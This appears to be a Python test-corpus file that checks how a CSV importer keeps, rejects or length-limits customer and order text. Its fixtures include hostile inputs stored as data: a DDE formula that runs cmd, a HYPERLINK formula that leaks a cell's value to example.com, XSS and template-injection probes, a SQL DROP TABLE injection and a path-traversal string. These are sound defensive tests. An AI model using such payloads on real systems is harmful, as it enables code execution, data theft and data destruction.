"""Text: kept as it is, unless it cannot be text at all."""

from corpus import cell, table

KEEP = "security.md: neutralise on export, keep the text on import"
BACK = "reading 17: the apostrophe our exports put before a formula is not the firm's"
ASIS = "security.md, Dirty files: zero-width, right-to-left, emoji end as accepted: no loss"
CONTROL = "security.md, Dirty files; reading 10: a control character in one-line text is a row in error"
NUL = "security.md: NUL and lone surrogates refused before PostgreSQL sees them"
LENGTH = "ASVS 1.3.3: limit length; reading 18: 400 characters, 4000 in a note"


def add(corpus):
    kept_text(corpus)
    apostrophes(corpus)
    controls(corpus)
    lengths(corpus)
    other_kinds(corpus)


def customer(name, **more):
    return table(["customer_key", "name", *more], [["B1", cell(name), *map(cell, more.values())]])


def kept_text(corpus):
    for name, text, why in (
        ("formula-equals", "=1+1", KEEP), ("formula-plus", "+1", KEEP), ("formula-minus", "-1", KEEP), ("formula-at", "@SUM(A1:A9)", KEEP),
        ("formula-dde", "=cmd|' /C calc'!A0", KEEP), ("formula-link", '=HYPERLINK("http://example.com?x="&A1,"click")', KEEP),
        ("formula-full-width", "＝1+1", KEEP), ("formula-only-sign", "=", KEEP),
        ("zero-width", "A\u200bn\u200cn\u200d\u2060", ASIS), ("right-to-left-mark", "\u200fعلي\u200e", ASIS), ("right-to-left-override", "A\u202egnp.exe", ASIS),
        ("right-to-left-isolate", "\u2067שלום\u2069", ASIS), ("emoji", "🙂 Ann 👩‍👩‍👧‍👦 🏳️‍🌈", ASIS), ("combining", "Z̷̧̢a̴l̵g̶o̷", ASIS),
        ("composed", "Zo\u00eb", ASIS), ("decomposed", "Zoe\u0308", ASIS), ("astral", "𠮷野家 𝒜𝓃𝓃", ASIS), ("private-use", "\ue000\U000f0000", ASIS),
        ("soft-hyphen", "Ann\u00adLtd", ASIS), ("nbsp-inside", "Ann\u00a0Ltd", ASIS), ("replacement-character", "M\ufffdller", ASIS),
        ("variation-selector", "葛\U000e0100", ASIS), ("ligature", "ﬁne", ASIS), ("bom-inside", "Ann\ufeffLtd", ASIS),
        ("html", "<b>Ann</b> &amp; <i>Co</i>", "security.md: encode at output"), ("script", "<script>alert(1)</script>", "security.md: encode at output"),
        ("svg", "\"><svg onload=alert(1)>", "security.md: encode at output"), ("template", "{{7*7}} ${7*7} #{7*7} <%= 7 %>", "security.md: encode at output"),
        ("sql", "'; DROP TABLE customers; --", "security.md: parameters only"), ("sql-quotes", "O''Neill '' \" `", "security.md: parameters only"),
        ("like-signs", "100% _sure_", "security.md: parameters only"), ("backslashes", "\\ \\\\ C:\\new\\table", ASIS), ("copy-end", "\\.", ASIS),
        ("copy-null", "\\N", ASIS), ("copy-escapes", "\\n\\t\\x41\\101", ASIS), ("null-word", "NULL", ASIS), ("null-lower", "null", ASIS),
        ("undefined", "undefined", ASIS), ("excel-error", "#REF!", ASIS), ("number-name", "00012", ASIS), ("date-name", "2026-01-05", ASIS),
        ("true-name", "TRUE", ASIS), ("format", "{0} %s %n", ASIS), ("path", "../../etc/passwd", ASIS), ("inner-blanks", "Ann   Ltd", ASIS),
        ("line-separator", "Ann\u2028Ltd\u2029Co", ASIS),
    ):
        either = ["rows_in_error"] if name == "line-separator" else []
        corpus.accepted(f"text-{name}", "customers", customer(text), why, {"customers": {"B1": {"name": text}}}, either=either)
    corpus.accepted("text-blanks-round-it", "customers", customer("  Ann  ", city=" Leeds "), "reading 12: blanks round a cell do not count",
                    {"customers": {"B1": {"name": "Ann", "city": "Leeds"}}}, is_open=True)
    corpus.accepted("text-tab-leading-formula", "customers", customer("\t=1+1"), KEEP + "; reading 12: the tab is a blank round the cell",
                    {"customers": {"B1": {"name": "=1+1"}}}, is_open=True)
    corpus.accepted("text-in-every-column", "customers",
                    table(["customer_key", "name", "local_name", "member_card_no", "phone", "email", "country", "industry", "business_type", "region", "source"],
                          [["=B1", "=1", "@2", "-3", "+49 170 1", "a@b.example", "'x", "<b>", "\\N", "=North", "+Fair"]]), KEEP,
                    {"customers": {"=B1": {"name": "=1", "local_name": "@2", "member_card_no": "-3", "phone": "+49 170 1", "email": "a@b.example",
                                           "country": "'x", "industry": "<b>", "business_type": "\\N", "region": "=North", "source": "+Fair"}}})


def apostrophes(corpus):
    for name, text, read in (
        ("equals", "'=1+1", "=1+1"), ("plus", "'+49 170 1", "+49 170 1"), ("minus", "'-1", "-1"), ("at", "'@SUM(A1)", "@SUM(A1)"),
        ("word", "'quoted", "'quoted"), ("two", "''", "''"), ("alone", "'", "'"), ("digits", "'123", "'123"), ("inside", "a'=1", "a'=1"),
        ("around", "'Ann'", "'Ann'"), ("before-blank", "' =1", "' =1"),
    ):
        corpus.accepted(f"apostrophe-{name}", "customers", customer(text), BACK, {"customers": {"B1": {"name": read}}})
    corpus.accepted("apostrophe-key", "customers", "customer_key,name\n'=B1,Ann\n", BACK, {"customers": {"=B1": {"name": "Ann"}}})
    corpus.accepted(
        "apostrophe-reference", "orders", "order_no,customer_key,ordered_on,net\n'-O1,'=B1,2026-01-05,5\n", BACK,
        {"orders": {"-O1": {"customer_key": "=B1"}}}, before=[("customers", "customer_key,name\n=B1,Ann\n")])
    corpus.accepted(
        "apostrophe-key-same-twice", "customers", "customer_key,name,phone\n'=B1,'@Ann,'+49 1\n", "formats.md: applying the same file twice changes nothing",
        {"customers": {"=B1": {"name": "@Ann", "phone": "+49 1"}}}, added=0, before=[("customers", "customer_key,name,phone\n=B1,@Ann,+49 1\n")])
    corpus.accepted("apostrophe-tags", "customers", "customer_key,name,tags\nB1,Ann,'=x|y\n", BACK, {"customers": {"B1": {"tags": "=x|y"}}})
    corpus.accepted(
        "apostrophe-note", "costs", "cost_no,customer_key,activity,incurred_on,amount,note\nX1,K1,rebate,2026-01-05,5,'=1+1\n", BACK,
        {"costs": {"X1": {"note": "=1+1"}}})


def controls(corpus):
    for name, character in (
        ("soh", "\x01"), ("bell", "\x07"), ("backspace", "\x08"), ("tab", "\t"), ("vertical-tab", "\x0b"), ("form-feed", "\x0c"), ("escape", "\x1b[31m"),
        ("unit-separator", "\x1f"), ("delete", "\x7f"), ("next-line", "\x85"), ("c1", "\x9b"), ("lf", "\n"), ("crlf", "\r\n"),
    ):
        corpus.in_error(f"control-{name}", "customers", customer(f"A{character}n"), CONTROL, (2, "name"))
    corpus.in_error("control-in-city", "customers", customer("Ann", city="Le\x01eds"), CONTROL, (2, "city"))
    corpus.in_error("control-in-tags", "customers", customer("Ann", tags="a|b\x01"), CONTROL, (2, "tags"))
    corpus.in_error("control-in-region", "customers", customer("Ann", region="No\x01rth"), CONTROL, (2, "region"))
    corpus.in_error("control-in-product", "order-lines", "order_no,line_no,net,product_name\nKNOWN,1,5,Cu\x07p\n", CONTROL, (2, "product_name"))
    corpus.in_error("control-in-unit", "activities", "activity,unit\nfax,pa\x07ge\n", CONTROL, (2, "unit"))
    corpus.skipped("control-skipped", "customers", table(["customer_key", "name"], [["B1", "Ann"], ["B2", "B\x01b"], ["B3", "Cid"]]), CONTROL,
                   [(3, "name")], {"customers": {"B1": {"name": "Ann"}, "B2": None, "B3": {"name": "Cid"}}})
    corpus.not_stored("nul-in-text", "customers", customer("A\0nn"), NUL)
    corpus.not_stored("nul-in-key", "customers", "customer_key,name\nB\0,Ann\n", NUL)
    corpus.not_stored("nul-in-number", "orders", "order_no,customer_key,ordered_on,net\nO1,K1,2026-01-05,5\0\n", NUL)
    corpus.not_stored("nul-in-date", "orders", "order_no,customer_key,ordered_on,net\nO1,K1,2026-01-05\0,5\n", NUL)
    corpus.not_stored("nul-in-header", "customers", "customer_key,name\0\nB1,Ann\n", NUL)
    corpus.not_stored("nul-in-note", "costs", "cost_no,customer_key,activity,incurred_on,amount,note\nX1,K1,rebate,2026-01-05,5,a\0b\n", NUL)
    corpus.not_stored("nul-at-end", "customers", "customer_key,name\nB1,Ann\n\0", NUL, either=["accepted"], stored={"customers": {"B1": {"name": "Ann"}}}, read=1, added=1)
    corpus.not_stored("nul-only", "customers", "\0" * 1000, NUL)


def lengths(corpus):
    for column in ("name", "city", "local_name", "phone"):
        for name, character in (("", "x"), ("-chinese", "名"), ("-emoji", "🙂")):
            def file(count, column=column, character=character):
                return customer(character * count) if column == "name" else customer("Ann", **{column: character * count})

            corpus.accepted(f"length-400-{column}{name}", "customers", file(400), LENGTH, {"customers": {"B1": {column: character * 400}}})
            corpus.in_error(f"length-401-{column}{name}", "customers", file(401), LENGTH, (2, column))
    note = "cost_no,customer_key,activity,incurred_on,amount,note\nX1,K1,rebate,2026-01-05,5,"
    for name, character in (("", "x"), ("-emoji", "🙂")):
        corpus.accepted(f"length-4000-note{name}", "costs", note + character * 4000 + "\n", LENGTH, {"costs": {"X1": {"note": character * 4000}}})
        corpus.in_error(f"length-4001-note{name}", "costs", note + character * 4001 + "\n", LENGTH, (2, "note"))


def other_kinds(corpus):
    lines = "order_no,line_no,net,product_code,product_name,category\nKNOWN,1,5,{},{},{}\n"
    corpus.accepted("text-of-lines", "order-lines", lines.format("=1+1", "<b>Cup</b>", "\u200f杯子"), KEEP,
                    {"order-lines": {"KNOWN/1": {"product_code": "=1+1", "product_name": "<b>Cup</b>", "category": "\u200f杯子"}}})
    corpus.accepted("length-400-product", "order-lines", lines.format("c", "x" * 400, "d"), LENGTH, {"order-lines": {"KNOWN/1": {"product_name": "x" * 400}}})
    corpus.in_error("length-401-product", "order-lines", lines.format("c", "x" * 401, "d"), LENGTH, (2, "product_name"))
    corpus.in_error("length-401-unit", "activities", f"activity,unit\nfax,{'x' * 401}\n", LENGTH, (2, "unit"))
    corpus.accepted("text-of-activities", "activities", "activity,unit\n=cmd,@unit\n", KEEP, {"activities": {"=cmd/": {"unit": "@unit", "rate": None}}})
    corpus.in_error("name-empty", "customers", customer(""), "formats.md: required: customer_key, name", (2, "name"))
    corpus.in_error("name-blank", "customers", customer("   "), "formats.md: required; reading 12", (2, "name"))
    corpus.in_error("name-emptied", "customers", "customer_key,name\nK1,\n", "formats.md: required: customer_key, name", (2, "name"))
    corpus.in_error("unit-empty", "activities", "activity,unit\nfax,\n", "formats.md: required: activity, unit", (2, "unit"))
    corpus.in_error("kind-unknown", "customers", customer("Ann", kind="alien"), "formats.md: kind (company, person)", (2, "kind"))
    corpus.in_error("kind-upper-case", "customers", customer("Ann", kind="Person"), "formats.md: kind (company, person)", (2, "kind"), either=["accepted"],
                    read=1, added=1, stored={"customers": {"B1": {"kind": "person"}}})
